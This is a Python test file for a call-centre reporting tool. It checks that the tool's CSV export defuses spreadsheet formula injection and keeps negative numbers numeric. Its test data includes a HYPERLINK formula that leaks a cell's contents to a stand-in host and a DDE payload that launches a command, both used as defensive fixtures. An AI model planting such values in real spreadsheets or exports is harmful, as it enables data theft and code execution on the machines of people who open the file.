"""CSV reports never hand a spreadsheet a formula from the data (OWASP CSV injection),
and numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from kpi_fixtures import NOV

from callwright.reports.export import to_csv
from callwright.reports.kpis import ReportParams, build_report

HOSTILE = {
    "queue": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "agent": "@SUM(1+1)*cmd|' /C calc'!A0",
    "team": "+1+cmd",
    "flow": "-2+3",
    "campaign": "\tcmd",
}


def _rows(db, group_by: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(to_csv(build_report(db, ReportParams(**NOV, group_by=group_by))))))


@pytest.mark.parametrize("group_by", ["queue", "agent", "team", "flow", "campaign"])
def test_names_from_the_data_that_look_like_formulas_are_neutralised(db, group_by):
    db["calls"].insert(
        {
            "id": "evil",
            "started_at": "2026-11-06T10:00:00-05:00",
            "direction": "inbound",
            **HOSTILE,
            "outcome": "transferred",
            "caller_id": "+7",
        }
    )
    db["survey_answers"].insert({"call_id": "evil", "question": "nps", "value": 0})
    db["queue_calls"].insert(
        {
            "call_id": "evil",
            "queue": HOSTILE["queue"],
            "agent": HOSTILE["agent"],
            "wait_s": 4.0,
            "handle_s": 90.0,
            "callback_accepted": 0,
            "outcome": "completed",
            "answered_at": "2026-11-06T10:00:04-05:00",
        }
    )
    rows = _rows(db, group_by)
    cells = [v for r in rows for v in r.values()]
    hostile = HOSTILE[group_by]
    assert "'" + hostile in cells  # the group's key (and the agents' team column) is there, neutralised
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only numbers may start with a minus


def test_negative_numbers_stay_numeric(db):
    # one more detractor in November: NPS goes negative
    for i, v in enumerate((0, 1, 2, 3)):
        db["calls"].insert(
            {
                "id": f"d{i}",
                "started_at": "2026-11-07T10:00:00-05:00",
                "direction": "inbound",
                "flow": "acme",
                "caller_id": f"+8{i}",
            }
        )
        db["survey_answers"].insert({"call_id": f"d{i}", "question": "nps", "value": v})
    rows = _rows(db, "day")
    nps = next(r["value"] for r in rows if r["section"] == "inbound_total" and r["kpi"] == "nps")
    assert float(nps) < 0 and nps.startswith("-")


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-3.5", "-3.5"),
        ("+2e3", "+2e3"),
        ("ann", "ann"),
        (-3.5, -3.5),
        (7, 7),
        (None, None),
    ],
)
def test_csv_cell(value, cell):
    from callwright.reports.export import csv_cell

    assert csv_cell(value) == cell
